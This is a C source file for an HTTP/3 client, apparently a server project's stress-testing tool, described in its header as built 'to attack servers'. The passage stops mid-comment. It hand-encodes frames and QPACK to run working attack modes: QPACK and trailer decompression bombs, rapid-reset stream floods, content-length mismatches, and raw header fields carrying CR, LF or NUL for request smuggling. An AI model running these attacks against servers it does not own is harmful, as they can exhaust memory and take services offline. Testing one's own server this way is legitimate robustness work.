/* SPDX-License-Identifier: MIT */
/*
 * NAME
 *	h3raw - an HTTP/3 client that writes its frames and QPACK by hand,
 *	to attack servers
 * SYNOPSIS
 *	h3raw [--host ADDR] --port PORT [--sni NAME] [--timeout SECS]
 *	      [--wait SECS] MODE [ARGS]
 * DESCRIPTION
 *	One QUIC connection (ngtcp2 client over wolfSSL, certificate not
 *	verified, ALPN h3), one poll loop. No HTTP/3 library: the HTTP/3
 *	frames (RFC 9114) and the QPACK field sections and encoder
 *	instructions (RFC 9204) are built here, byte by byte, so the client
 *	can send what no library would. Modes (see usage()): get,
 *	qpackbomb, trailerbomb, lengthreset, rapidreset, fields.
 *
 *	fields sends one request whose field lines are all literal, with
 *	literal names, no Huffman (RFC 9204 4.5.6), so that any bytes can
 *	be sent: the pseudo-header fields (from --method, --path,
 *	--authority or the SNI; no :authority with --no-authority), then
 *	each FIELD, NAME:VALUE split at the first ':' after the first
 *	character (":authority:x" is the name ":authority"). Names and
 *	values, and the arguments of --method, --path and --authority, are
 *	unescaped (\xNN \r \n \t \0 \\) so CR, LF, NUL or uppercase go
 *	out as they are.
 *
 *	After the handshake the client opens its control stream (SETTINGS:
 *	QPACK_MAX_TABLE_CAPACITY 0, QPACK_BLOCKED_STREAMS 0, so responses
 *	use the static table and literals only), its QPACK encoder stream
 *	(the bomb modes put one dynamic entry there) and its decoder stream,
 *	then N request streams as the server's MAX_STREAMS allows. Every
 *	request stream carries the same bytes, built once.
 *
 *	Of the responses only :status is decoded (static table, literals,
 *	RFC 7541 Huffman); DATA is skipped, the server's QPACK streams are
 *	dropped, its control stream is read for GOAWAY. ngtcp2 1.11 has no
 *	callback for a STOP_SENDING received (stream_stop_sending is our
 *	own): it is read from ngtcp2's frame log (cb_log). The run ends when
 *	the server closes the connection, when every request was answered
 *	(response end, RESET_STREAM, STOP_SENDING or stream closed) and
 *	--wait seconds passed, or at --timeout.
 *
 *	Ownership: the run owns the socket, the TLS objects, the ngtcp2_conn
 *	and the stream bytes, which ngtcp2 points into until the end.
 *	Callbacks only record and print; the loop writes.
 * DIAGNOSTICS
 *	stdout, one fact a line: "status=NNN stream=ID", "reset stream=ID
 *	code=0xHEX", "stop_sending stream=ID code=0xHEX", "goaway id=N", then
 *	"requests=N responses=R resets=S", "answered=A stop_sendings=P
 *	secs=T timeout=yes|no", "close=0xCODE app=yes|no reason=TEXT" (or
 *	"close=stateless-reset ...", or "closed=no"), "handshake=ok|failed".
 *	Errors on stderr. Exit 0 if the handshake completed, 1 if not, 2 on
 *	a usage error.
 * SEE ALSO
 *	RFC 9114, RFC 9204, RFC 7541 (Appendix B); contrib/bench/qload.c.
 */
#include "config.h"

/* system */
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <netdb.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

/* libraries */
#include <ngtcp2/ngtcp2.h>
#include <ngtcp2/ngtcp2_crypto.h>
#include <ngtcp2/ngtcp2_crypto_wolfssl.h>
#include <wolfssl/options.h>
#include <wolfssl/ssl.h>
#include <wolfssl/quic.h>

#define SEC_NS 1000000000ull
#define MAX_REQUESTS 100000
#define MAX_REFS 1000000
#define MAX_SIZE 1000000
#define PKT_BUF_SIZE 65536
#define RX_BATCH 64
#define SRV_UNI_MAX 16 /* server uni streams we follow (ids 3, 7, ..) */
#define HEAD_KEEP 64   /* first bytes of a HEADERS payload kept: :status comes first */

/* HTTP/3 (RFC 9114 7.2, 6.2, 7.2.4.1, 8.1) */
#define H3_FRAME_DATA 0x00
#define H3_FRAME_HEADERS 0x01
#define H3_FRAME_SETTINGS 0x04
#define H3_FRAME_GOAWAY 0x07
#define H3_STREAM_CONTROL 0x00
#define H3_STREAM_ENCODER 0x02
#define H3_STREAM_DECODER 0x03
#define H3_SETTING_QPACK_MAX_TABLE_CAPACITY 0x01
#define H3_SETTING_QPACK_BLOCKED_STREAMS 0x07
#define H3_NO_ERROR 0x100
#define H3_REQUEST_CANCELLED 0x10c

/* QPACK static table (RFC 9204 Appendix A) */
#define QS_AUTHORITY 0
#define QS_PATH_SLASH 1
#define QS_CONTENT_LENGTH_0 4
#define QS_METHOD_GET 17
#define QS_METHOD_POST 20
#define QS_SCHEME_HTTPS 23

/* The dynamic entry of the bomb modes */
#define BOMB_CAPACITY 4096
#define BOMB_NAME "x-bomb"

enum mode {
    MODE_GET,
    MODE_QPACKBOMB,
    MODE_TRAILERBOMB,
    MODE_LENGTHRESET,
    MODE_RAPIDRESET,
    MODE_FIELDS
};

/* A byte string the run owns until the end: ngtcp2 keeps pointers into it. */
struct blob {
    uint8_t *data;
    size_t len;
    size_t cap;
};

/* fields: one field line, name and value unescaped */
struct hfield {
    struct blob name;
    struct blob value;
};

struct opts {
    const char *host;
    const char *port;
    const char *sni;
    double timeout_s;
    double wait_s;
    enum mode mode;
    const char *path; /* get */
    size_t count;     /* requests */
    size_t refs;      /* bomb modes: references per field section */
    size_t size;      /* bomb modes: bytes of the dynamic entry's value */
    bool has_refs;
    bool has_size;
    const char *method;    /* fields: --method, NULL for GET */
    const char *fpath;     /* fields: --path, NULL for / */
    const char *authority; /* fields: --authority, NULL for the SNI */
    bool is_no_authority;  /* fields: --no-authority */
    struct hfield *fields; /* fields: pseudo-header fields, then FIELD... */
    size_t field_count;
};

/* The sending side of one of our streams */
struct txs {
    int64_t id;
    const struct blob *src;
    size_t off;      /* bytes handed to ngtcp2 */
    bool is_fin;     /* the stream ends with the blob */
    bool is_sent;    /* everything (and the FIN if any) handed to ngtcp2 */
    bool is_blocked; /* stream flow control; cleared by extend_max_stream_data */
    bool is_closed;  /* reset, stopped or closed: write no more */
};

/* A frame reader: type and length varints, then the payload */
struct frame_rx {
    uint8_t hdr[16];
    size_t hdr_len;
    bool in_payload;
    uint64_t type;
    uint64_t left;
    uint8_t head[HEAD_KEEP]; /* first payload bytes of HEADERS / GOAWAY */
    size_t head_len;
};

struct req {
    struct txs tx;
    struct frame_rx rx;
    bool is_answered;
    bool has_final;      /* a :status >= 200 came */
    bool is_cancel_sent; /* rapidreset: RESET_STREAM + STOP_SENDING queued */
    bool is_stop_seen;   /* the server sent STOP_SENDING */
};

/* A unidirectional stream the server opened */
struct srv_uni {
    uint8_t tbuf[8];
    size_t tlen;
    bool has_type;
    uint64_t type;
    struct frame_rx rx;
};

struct run {
    struct opts o;
    int fd;
    struct sockaddr_storage local;
    struct sockaddr_storage remote;
    socklen_t remote_len;
    ngtcp2_path path;
    ngtcp2_conn *qc;
    WOLFSSL_CTX *ssl_ctx;
    WOLFSSL *ssl;
    ngtcp2_crypto_conn_ref conn_ref;
    uint64_t rng;
    struct blob ctrl, enc, dec, request;
    struct txs uni[3];
    struct req *reqs;
    size_t opened_count;
    size_t answered_count;
    size_t response_count;
    size_t reset_count;
    size_t stop_count;
    size_t tx_cursor;     /* requests below it are sent or closed */
    size_t cancel_cursor; /* rapidreset: requests below it are cancelled */
    struct srv_uni srv[SRV_UNI_MAX];
    bool is_handshake_done;
    bool is_started;
    bool is_draining; /* the server closed: its error is in peer_err */
    bool is_no_close; /* the server cannot be reached: send no CONNECTION_CLOSE */
    bool is_stateless_reset;
    bool is_failed; /* a local error: close with local_err */
    bool is_idle_closed;
    bool is_timeout;
    ngtcp2_ccerr peer_err;
    char peer_reason[256];
    ngtcp2_ccerr local_err;
    uint64_t start_ns;
    uint64_t end_ns;
    uint64_t wait_end_ns; /* 0 until every request is answered */
    uint8_t txbuf[PKT_BUF_SIZE];
    uint8_t rxbuf[PKT_BUF_SIZE];
};

static volatile sig_atomic_t got_signal;

/* ------------------------------------------------------------ utilities */

/* now_ns - the monotonic clock ngtcp2 is driven with */
static uint64_t now_ns(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (uint64_t)ts.tv_sec * SEC_NS + (uint64_t)ts.tv_nsec;
}

/* die - a startup error: message and exit 1 */
static void die(const char *fmt, ...)
{
    va_list ap;

    fputs("h3raw: ", stderr);
    va_start(ap, fmt);
    vfprintf(stderr, fmt, ap);
    va_end(ap);
    fputc('\n', stderr);
    exit(1);
}

/* warn - an error on stderr */
static void warn(const char *fmt, ...)
{
    va_list ap;

    fputs("h3raw: ", stderr);
    va_start(ap, fmt);
    vfprintf(stderr, fmt, ap);
    va_end(ap);
    fputc('\n', stderr);
}

/* rng_fill - xorshift64* bytes: CIDs and ngtcp2's rand need no more */
static void rng_fill(struct run *r, uint8_t *dest, size_t len)
{
    while (len > 0) {
        uint64_t v;
        size_t n = len < sizeof(v) ? len : sizeof(v);

        r->rng ^= r->rng >> 12;
        r->rng ^= r->rng << 25;
        r->rng ^= r->rng >> 27;
        v = r->rng * 2685821657736338717ull;
        memcpy(dest, &v, n);
        dest += n;
        len -= n;
    }
}

/* ------------------------------------------------------------ byte writers */

/* blob_put - append |n| bytes (dies on OOM: built once, before the clock) */
static void blob_put(struct blob *b, const void *p, size_t n)
{
    if (n == 0)
        return; /* |p| and b->data may be NULL */
    if (b->len + n > b->cap) {
        size_t cap = b->cap ? b->cap : 256;
        uint8_t *d;

        while (cap < b->len + n)
            cap *= 2;
        if ((d = realloc(b->data, cap)) == NULL)
            die("out of memory");
        b->data = d;
        b->cap = cap;
    }
    memcpy(b->data + b->len, p, n);
    b->len += n;
}

/* blob_byte - append one byte */
static void blob_byte(struct blob *b, uint8_t v)
{
    blob_put(b, &v, 1);
}

/* blob_fill - append |n| copies of |v| */
static void blob_fill(struct blob *b, uint8_t v, size_t n)
{
    uint8_t chunk[256];

    memset(chunk, v, sizeof(chunk));
    while (n > 0) {
        size_t k = n < sizeof(chunk) ? n : sizeof(chunk);

        blob_put(b, chunk, k);
        n -= k;
    }
}

/* blob_varint - a QUIC variable-length integer (RFC 9000 16), v < 2^62 */
static void blob_varint(struct blob *b, uint64_t v)
{
    uint8_t p[8];
    size_t n = v < 0x40 ? 1 : v < 0x4000 ? 2 : v < 0x40000000 ? 4 : 8;

    for (size_t i = 0; i < n; i++)
        p[n - 1 - i] = (uint8_t)(v >> (8 * i));
    p[0] |= (uint8_t)((n == 1 ? 0 : n == 2 ? 1 : n == 4 ? 2 : 3) << 6);
    blob_put(b, p, n);
}

/*
 * blob_qint - a QPACK/HPACK prefixed integer (RFC 7541 5.1): |v| in the
 * low |bits| of a first byte whose high bits are |flags|
 */
static void blob_qint(struct blob *b, uint8_t flags, unsigned bits, uint64_t v)
{
    uint64_t max = (1u << bits) - 1;

    if (v < max) {
        blob_byte(b, (uint8_t)(flags | v));
        return;
    }
    blob_byte(b, (uint8_t)(flags | max));
    for (v -= max; v >= 0x80; v >>= 7)
        blob_byte(b, (uint8_t)(0x80 | (v & 0x7f)));
    blob_byte(b, (uint8_t)v);
}

/* blob_qstr - a string literal, length with a 7-bit prefix, no Huffman */
static void blob_qstr(struct blob *b, const char *s, size_t n)
{
    blob_qint(b, 0x00, 7, n);
    blob_put(b, s, n);
}

/* blob_frame - append an HTTP/3 frame of |type| around |payload| */
static void blob_frame(struct blob *b, uint64_t type, const struct blob *payload)
{
    blob_varint(b, type);
    blob_varint(b, payload->len);
    blob_put(b, payload->data, payload->len);
}

/* blob_free - release |b| */
static void blob_free(struct blob *b)
{
    free(b->data);
    memset(b, 0, sizeof(*b));
}

/* ------------------------------------------------------------ QPACK out */

/*
 * field_prefix - the field section prefix (RFC 9204 4.5.1): Required
 * Insert Count |ric| encoded with MaxEntries = BOMB_CAPACITY / 32, and
 * Base = |base|
 */
static void field_prefix(struct blob *b, uint64_t ric, uint64_t base)
{
    uint64_t max_entries = BOMB_CAPACITY / 32;

    blob_qint(b, 0x00, 8, ric == 0 ? 0 : ric % (2 * max_entries) + 1);
    if (base >= ric)
        blob_qint(b, 0x00, 7, base - ric);
    else
        blob_qint(b, 0x80, 7, ric - base - 1);
}

/* field_static - Indexed Field Line, static table (1 T=1 index) */
static void field_static(struct blob *b, uint64_t idx)
{
    blob_qint(b, 0xc0, 6, idx);
}

/* field_dynamic - Indexed Field Line, dynamic table, relative |idx| */
static void field_dynamic(struct blob *b, uint64_t idx)
{
    blob_qint(b, 0x80, 6, idx);
}

/* field_static_name - Literal Field Line with static Name Reference */
static void field_static_name(struct blob *b, uint64_t idx, const char *value)
{
    blob_qint(b, 0x50, 4, idx);
    blob_qstr(b, value, strlen(value));
}

/* field_literal - Literal Field Line with Literal Name (001 N=0 H=0), no Huffman */
static void field_literal(struct blob *b, const struct hfield *h)
{
    blob_qint(b, 0x20, 3, h->name.len);
    blob_put(b, h->name.data, h->name.len);
    blob_qstr(b, (const char *)h->value.data, h->value.len);
}

/* field_pseudo - the four request pseudo-header fields */
static void field_pseudo(struct blob *b, const struct opts *o, uint64_t method, const char *path)
{
    field_static(b, method);
    field_static(b, QS_SCHEME_HTTPS);
    field_static_name(b, QS_AUTHORITY, o->sni[0] ? o->sni : "localhost");
    if (strcmp(path, "/") == 0)
        field_static(b, QS_PATH_SLASH);
    else
        field_static_name(b, QS_PATH_SLASH, path);
}

/* field_bomb - a section of |refs| references to the one dynamic entry */
static void field_bomb(struct blob *b, size_t refs)
{
    field_prefix(b, 1, 1);
    for (size_t i = 0; i < refs; i++)
        field_dynamic(b, 0);
}

/* ------------------------------------------------------------ stream bytes */

/* build_uni - control stream (SETTINGS), encoder stream (the bomb entry), decoder stream */
static void build_uni(struct run *r)
{
    struct blob settings = {0};
    bool is_bomb = r->o.mode == MODE_QPACKBOMB || r->o.mode == MODE_TRAILERBOMB;

    blob_varint(&r->ctrl, H3_STREAM_CONTROL);
    blob_varint(&settings, H3_SETTING_QPACK_MAX_TABLE_CAPACITY);
    blob_varint(&settings, 0);
    blob_varint(&settings, H3_SETTING_QPACK_BLOCKED_STREAMS);
    blob_varint(&settings, 0);
    blob_frame(&r->ctrl, H3_FRAME_SETTINGS, &settings);
    blob_free(&settings);

    blob_varint(&r->enc, H3_STREAM_ENCODER);
    if (is_bomb) {
        /* Set Dynamic Table Capacity, then Insert With Literal Name (RFC 9204 4.3) */
        blob_qint(&r->enc, 0x20, 5, BOMB_CAPACITY);
        blob_qint(&r->enc, 0x40, 5, strlen(BOMB_NAME));
        blob_put(&r->enc, BOMB_NAME, strlen(BOMB_NAME));
        blob_qint(&r->enc, 0x00, 7, r->o.size);
        blob_fill(&r->enc, 'a', r->o.size);
    }
    blob_varint(&r->dec, H3_STREAM_DECODER);
}

/* build_request - the bytes every request stream of the mode carries */
static void build_request(struct run *r)
{
    struct blob f = {0}, body = {0};
    const struct opts *o = &r->o;

    switch (o->mode) {
    case MODE_GET:
    case MODE_RAPIDRESET:
        field_prefix(&f, 0, 0);
        field_pseudo(&f, o, QS_METHOD_GET, o->mode == MODE_GET ? o->path : "/");
        blob_frame(&r->request, H3_FRAME_HEADERS, &f);
        break;
    case MODE_QPACKBOMB:
        field_prefix(&f, 1, 1);
        field_pseudo(&f, o, QS_METHOD_GET, "/");
        for (size_t i = 0; i < o->refs; i++)
            field_dynamic(&f, 0);
        blob_frame(&r->request, H3_FRAME_HEADERS, &f);
        break;
    case MODE_TRAILERBOMB:
        field_prefix(&f, 0, 0);
        field_pseudo(&f, o, QS_METHOD_POST, "/api/echo");
        blob_frame(&r->request, H3_FRAME_HEADERS, &f);
        blob_put(&body, "hello", 5);
        blob_frame(&r->request, H3_FRAME_DATA, &body);
        f.len = 0;
        field_bomb(&f, o->refs);
        blob_frame(&r->request, H3_FRAME_HEADERS, &f);
        break;
    case MODE_LENGTHRESET:
        field_prefix(&f, 0, 0);
        field_pseudo(&f, o, QS_METHOD_POST, "/api/echo");
        field_static_name(&f, QS_CONTENT_LENGTH_0, "1");
        blob_frame(&r->request, H3_FRAME_HEADERS, &f);
        blob_put(&body, "xx", 2);
        blob_frame(&r->request, H3_FRAME_DATA, &body);
        break;
    case MODE_FIELDS:
        field_prefix(&f, 0, 0);
        for (size_t i = 0; i < o->field_count; i++)
            field_literal(&f, &o->fields[i]);
        blob_frame(&r->request, H3_FRAME_HEADERS, &f);
        break;
    }
    blob_free(&f);
    blob_free(&body);
}

/* ------------------------------------------------------------ Huffman (RFC 7541 B) */

/*
 * Code lengths of the 257 symbols. The code is canonical (codes of one
 * length are consecutive, in symbol order, shorter codes first), so the
 * lengths alone define it; decoding walks the lengths as zlib's puff.c.
 */
static const uint8_t huff_len[257] = {
    13, 23, 28, 28, 28, 28, 28, 28, 28, 24, 30, 28, 28, 30, 28, 28, 28, 28, 28, 28, 28, 28, 30, 28,
    28, 28, 28, 28, 28, 28, 28, 28, 6,  10, 10, 12, 13, 6,  8,  11, 10, 10, 8,  11, 8,  6,  6,  6,
    5,  5,  5,  6,  6,  6,  6,  6,  6,  6,  7,  8,  15, 6,  12, 10, 13, 6,  7,  7,  7,  7,  7,  7,
    7,  7,  7,  7,  7,  7,  7,  7,  7,  7,  7,  7,  7,  7,  7,  7,  8,  7,  8,  13, 19, 13, 14, 6,
    15, 5,  6,  5,  6,  5,  6,  6,  6,  5,  7,  7,  6,  6,  6,  5,  6,  7,  6,  5,  5,  6,  7,  7,
    7,  7,  7,  15, 11, 14, 13, 28, 20, 22, 20, 20, 22, 22, 22, 23, 22, 23, 23, 23, 23, 23, 24, 23,
    24, 24, 22, 23, 24, 23, 23, 23, 23, 21, 22, 23, 22, 23, 23, 24, 22, 21, 20, 22, 22, 23, 23, 21,
    23, 22, 22, 24, 21, 22, 23, 23, 21, 21, 22, 21, 23, 22, 23, 23, 20, 22, 22, 22, 23, 22, 22, 23,
    26, 26, 20, 19, 22, 23, 22, 25, 26, 26, 26, 27, 27, 26, 24, 25, 19, 21, 26, 27, 27, 26, 27, 24,
    21, 21, 26, 26, 28, 27, 27, 27, 20, 24, 20, 21, 22, 21, 21, 23, 22, 22, 25, 25, 24, 24, 26, 23,
    26, 27, 26, 26, 27, 27, 27, 27, 27, 28, 27, 27, 27, 27, 27, 26, 30};

#define HUFF_MAX_LEN 30
#define HUFF_EOS 256

static uint16_t huff_count[HUFF_MAX_LEN + 1]; /* codes of each length */
static uint16_t huff_sym[257];                /* symbols by (length, value) */

/* huff_init - the decoding tables, once */
static void huff_init(void)
{
    size_t k = 0;

    for (unsigned len = 1; len <= HUFF_MAX_LEN; len++) {
        for (unsigned s = 0; s < 257; s++) {
            if (huff_len[s] == len) {
                huff_sym[k++] = (uint16_t)s;
                huff_count[len]++;
            }
        }
    }
}

/*
 * huff_decode - decode |n| Huffman-coded bytes into |out| (at most |cap|).
 * Returns the decoded length, or -1: bad code, EOS, bad padding (more
 * than 7 bits or not all ones, RFC 7541 5.2), or |out| too small.
 */
static int huff_decode(const uint8_t *in, size_t n, char *out, size_t cap)
{
    int64_t code = 0, first = 0, index = 0;
    uint32_t pend = 0;
    unsigned len = 0;
    size_t k = 0;

    for (size_t i = 0; i < n * 8; i++) {
        unsigned bit = (in[i / 8] >> (7 - i % 8)) & 1;

        code |= bit;
        pend = pend << 1 | bit;
        len++;
        if (code - huff_count[len] < first) {
            uint16_t s = huff_sym[index + code - first];

            if (s == HUFF_EOS || k == cap)
                return -1;
            out[k++] = (char)s;
            code = first = index = 0;
            pend = 0;
            len = 0;
            continue;
        }
        if (len == HUFF_MAX_LEN)
            return -1;
        index += huff_count[len];
        first = (first + huff_count[len]) << 1;
        code <<= 1;
    }
    if (len > 7 || pend != (1u << len) - 1)
        return -1;
    return (int)k;
}

/* ------------------------------------------------------------ QPACK in */

/* qint_get - a prefixed integer of |bits| at *p; -1 if cut short or too big */
static int qint_get(const uint8_t **p, const uint8_t *end, unsigned bits, uint64_t *v)
{
    uint64_t max = (1u << bits) - 1;
    unsigned shift = 0;

    if (*p >= end)
        return -1;
    *v = *(*p)++ & max;
    if (*v < max)
        return 0;
    for (;;) {
        uint8_t c;

        if (*p >= end || shift > 56)
            return -1;
        c = *(*p)++;
        *v += (uint64_t)(c & 0x7f) << shift;
        shift += 7;
        if (!(c & 0x80))
            return 0;
    }
}

/*
 * qstr_get - a string literal at *p whose length has a |bits| prefix and
 * whose Huffman flag is |hbit| of the first byte; decoded into |out| (cap
 * |cap|). Returns its length, or -1 (cut short, bad Huffman, too long).
 */
static int qstr_get(const uint8_t **p, const uint8_t *end, unsigned bits, uint8_t hbit, char *out,
                    size_t cap)
{
    bool is_huff;
    uint64_t n;

    if (*p >= end)
        return -1;
    is_huff = (**p & hbit) != 0;
    if (qint_get(p, end, bits, &n) != 0 || n > (uint64_t)(end - *p))
        return -1;
    *p += n;
    if (is_huff)
        return huff_decode(*p - n, (size_t)n, out, cap);
    if (n > cap)
        return -1;
    memcpy(out, *p - n, (size_t)n);
    return (int)n;
}

/* static_status - the :status of static table entry |idx|, 0 if not one */
static int static_status(uint64_t idx)
{
    static const struct {
        uint8_t idx;
        uint16_t status;
    } tab[] = {{24, 103}, {25, 200}, {26, 304}, {27, 404}, {28, 503}, {63, 100}, {64, 204},
               {65, 206}, {66, 302}, {67, 400}, {68, 403}, {69, 421}, {70, 425}, {71, 500}};

    for (size_t i = 0; i < sizeof(tab) / sizeof(tab[0]); i++)
        if (tab[i].idx == idx)
            return tab[i].status;
    return 0;
}

/* status_value - three digits to a status code, 0 if not that */
static int status_value(const char *v, int n)
{
    if (n != 3)
        return 0;
    for (int i = 0; i < 3; i++)
        if (v[i] < '0' || v[i] > '9')
            return 0;
    return (v[0] - '0') * 100 + (v[1] - '0') * 10 + (v[2] - '0');
}

/*
 * field_line_status - decode one field line at *p. Returns its :status,
 * 0 for another field, -1 for what cannot be decoded here (a dynamic
 * table reference, bytes cut short, bad Huffman).
 */
static int field_line_status(const uint8_t **p, const uint8_t *end)
{
    uint8_t c = **p;
    uint64_t idx;
    char name[HEAD_KEEP], value[HEAD_KEEP];
    int nl, vl;

    if (c & 0x80) { /* Indexed Field Line */
        if (qint_get(p, end, 6, &idx) != 0 || !(c & 0x40))
            return -1;
        return static_status(idx);
    }
    if (c & 0x40) { /* Literal Field Line with Name Reference */
        if (qint_get(p, end, 4, &idx) != 0 || !(c & 0x10))
            return -1;
        vl = qstr_get(p, end, 7, 0x80, value, sizeof(value));
        if (vl < 0)
            return -1;
        return static_status(idx) ? status_value(value, vl) : 0;
    }
    if (c & 0x20) { /* Literal Field Line with Literal Name */
        nl = qstr_get(p, end, 3, 0x08, name, sizeof(name));
        if (nl < 0 || (vl = qstr_get(p, end, 7, 0x80, value, sizeof(value))) < 0)
            return -1;
        return nl == 7 && memcmp(name, ":status", 7) == 0 ? status_value(value, vl) : 0;
    }
    return -1; /* post-base forms: dynamic table only */
}

/*
 * section_status - the :status of an encoded field section (its first
 * bytes), 0 if it has none (trailers), -1 if it cannot be decoded here
 */
static int section_status(const uint8_t *p, size_t n)
{
    const uint8_t *end = p + n;
    uint64_t ric, delta;

    if (qint_get(&p, end, 8, &ric) != 0 || qint_get(&p, end, 7, &delta) != 0 || ric != 0)
        return -1;
    while (p < end) {
        int st = field_line_status(&p, end);

        if (st != 0)
            return st;
    }
    return 0;
}

/* ------------------------------------------------------------ frames in */

/* varint_len - length of the QUIC varint whose first byte is |c| */
static size_t varint_len(uint8_t c)
{
    return (size_t)1 << (c >> 6);
}

/* varint_get - decode the varint at |p| (its length known to be there) */
static uint64_t varint_get(const uint8_t *p)
{
    size_t n = varint_len(p[0]);
    uint64_t v = p[0] & 0x3f;

    for (size_t i = 1; i < n; i++)
        v = v << 8 | p[i];
    return v;
}

/*
 * frame_hdr_byte - one byte of a frame header; true when the header (type
 * and length) is complete
 */
static bool frame_hdr_byte(struct frame_rx *f, uint8_t c)
{
    size_t tl;

    f->hdr[f->hdr_len++] = c;
    tl = varint_len(f->hdr[0]);
    if (f->hdr_len <= tl || f->hdr_len < tl + varint_len(f->hdr[tl]))
        return false;
    f->type = varint_get(f->hdr);
    f->left = varint_get(f->hdr + tl);
    f->hdr_len = 0;
    f->head_len = 0;
    f->in_payload = true;
    return true;
}

/*
 * frame_feed - consume bytes of a frame sequence; calls |done| with the
 * kept head of each complete frame
 */
static void frame_feed(struct frame_rx *f, const uint8_t *data, size_t len,
                       void (*done)(struct run *, int64_t, const struct frame_rx *), struct run *r,
                       int64_t id)
{
    while (len > 0) {
        size_t n;

        if (!f->in_payload) {
            len--;
            if (!frame_hdr_byte(f, *data++) || f->left > 0)
                continue;
        } else {
            n = len < f->left ? len : (size_t)f->left;
            if (f->head_len < HEAD_KEEP) {
                size_t k = HEAD_KEEP - f->head_len < n ? HEAD_KEEP - f->head_len : n;

                memcpy(f->head + f->head_len, data, k);
                f->head_len += k;
            }
            data += n;
            len -= n;
            f->left -= n;
            if (f->left > 0)
                continue;
        }
        f->in_payload = false;
        done(r, id, f);
    }
}

/* req_of - the request of stream |id|, NULL if none */
static struct req *req_of(struct run *r, int64_t id)
{
    size_t i = (size_t)id / 4;

    if (id < 0 || (id & 3) != 0 || i >= r->opened_count)
        return NULL;
    return &r->reqs[i];
}

/* uni_of - our unidirectional stream |id|, NULL if none */
static struct txs *uni_of(struct run *r, int64_t id)
{
    for (size_t i = 0; i < 3; i++)
        if (r->uni[i].src != NULL && !r->uni[i].is_closed && r->uni[i].id == id)
            return &r->uni[i];
    return NULL;
}

/* req_answered - the request of |rq| got its final answer */
static void req_answered(struct run *r, struct req *rq)
{
    if (rq->is_answered)
        return;
    rq->is_answered = true;
    r->answered_count++;
}

/* on_req_frame - a complete frame on a request stream: HEADERS may carry :status */
static void on_req_frame(struct run *r, int64_t id, const struct frame_rx *f)
{
    struct req *rq = req_of(r, id);
    int st;

    if (rq == NULL || f->type != H3_FRAME_HEADERS)
        return;
    st = section_status(f->head, f->head_len);
    if (st < 0) {
        printf("status=undecodable stream=%" PRId64 "\n", id);
        return;
    }
    if (st == 0)
        return; /* trailers */
    printf("status=%d stream=%" PRId64 "\n", st, id);
    if (st >= 200 && !rq->has_final) {
        rq->has_final = true;
        r->response_count++;
    }
}

/* on_ctrl_frame - a complete frame on the server's control stream */
static void on_ctrl_frame(struct run *r, int64_t id, const struct frame_rx *f)
{
    (void)r;
    (void)id;
    if (f->type != H3_FRAME_GOAWAY || f->head_len == 0 || f->head_len < varint_len(f->head[0]))
        return;
    printf("goaway id=%" PRIu64 "\n", varint_get(f->head));
}

/* srv_uni_feed - bytes of a server uni stream: its type, then control frames */
static void srv_uni_feed(struct run *r, int64_t id, const uint8_t *data, size_t len)
{
    size_t i = (size_t)id / 4;
    struct srv_uni *u;

    if (i >= SRV_UNI_MAX)
        return;
    u = &r->srv[i];
    while (!u->has_type && len > 0) {
        u->tbuf[u->tlen++] = *data++;
        len--;
        if (u->tlen == varint_len(u->tbuf[0])) {
            u->type = varint_get(u->tbuf);
            u->has_type = true;
        }
    }
    if (u->has_type && u->type == H3_STREAM_CONTROL)
        frame_feed(&u->rx, data, len, on_ctrl_frame, r, id);
}

/* ------------------------------------------------------------ ngtcp2 callbacks */

/* cb_get_conn - ngtcp2_crypto_conn_ref hook: TLS object -> ngtcp2_conn */
static ngtcp2_conn *cb_get_conn(ngtcp2_crypto_conn_ref *ref)
{
    struct run *r = ref->user_data;

    return r->qc;
}

/* cb_rand - ngtcp2's non-cryptographic randomness */
static void cb_rand(uint8_t *dest, size_t len, const ngtcp2_rand_ctx *ctx)
{
    rng_fill(ctx->native_handle, dest, len);
}

/* cb_new_cid - a CID we offer the server, with a random reset token */
static int cb_new_cid(ngtcp2_conn *qc, ngtcp2_cid *cid, uint8_t *token, size_t cidlen,
                      void *user_data)
{
    (void)qc;
    rng_fill(user_data, cid->data, cidlen);
    cid->datalen = cidlen;
    rng_fill(user_data, token, NGTCP2_STATELESS_RESET_TOKENLEN);
    return 0;
}

/* cb_handshake_completed - the loop starts HTTP/3 */
static int cb_handshake_completed(ngtcp2_conn *qc, void *user_data)
{
    struct run *r = user_data;

    (void)qc;
    r->is_handshake_done = true;
    return 0;
}

/* cb_recv_stream_data - route stream bytes; all credit is given back at once */
static int cb_recv_stream_data(ngtcp2_conn *qc, uint32_t flags, int64_t id, uint64_t offset,
                               const uint8_t *data, size_t len, void *user_data,
                               void *stream_user_data)
{
    struct run *r = user_data;
    struct req *rq;

    (void)offset;
    (void)stream_user_data;
    if (ngtcp2_is_bidi_stream(id)) {
        if ((rq = req_of(r, id)) != NULL) {
            frame_feed(&rq->rx, data, len, on_req_frame, r, id);
            if (flags & NGTCP2_STREAM_DATA_FLAG_FIN)
                req_answered(r, rq);
        }
    } else if (!ngtcp2_conn_is_local_stream(qc, id)) {
        srv_uni_feed(r, id, data, len);
    }
    ngtcp2_conn_extend_max_stream_offset(qc, id, len);
    ngtcp2_conn_extend_max_offset(qc, len);
    return 0;
}

/* cb_stream_close - a stream is gone: nothing more to write; a request is answered */
static int cb_stream_close(ngtcp2_conn *qc, uint32_t flags, int64_t id, uint64_t app_error_code,
                           void *user_data, void *stream_user_data)
{
    struct run *r = user_data;
    struct req *rq = req_of(r, id);
    struct txs *u = uni_of(r, id);

    (void)qc;
    (void)flags;
    (void)app_error_code;
    (void)stream_user_data;
    if (rq != NULL) {
        rq->tx.is_closed = true;
        req_answered(r, rq);
    }
    if (u != NULL)
        u->is_closed = true;
    return 0;
}

/* cb_stream_reset - the server sent RESET_STREAM */
static int cb_stream_reset(ngtcp2_conn *qc, int64_t id, uint64_t final_size,
                           uint64_t app_error_code, void *user_data, void *stream_user_data)
{
    struct run *r = user_data;
    struct req *rq = req_of(r, id);

    (void)qc;
    (void)final_size;
    (void)stream_user_data;
    printf("reset stream=%" PRId64 " code=0x%" PRIx64 "\n", id, app_error_code);
    r->reset_count++;
    if (rq != NULL)
        req_answered(r, rq);
    return 0;
}

/*
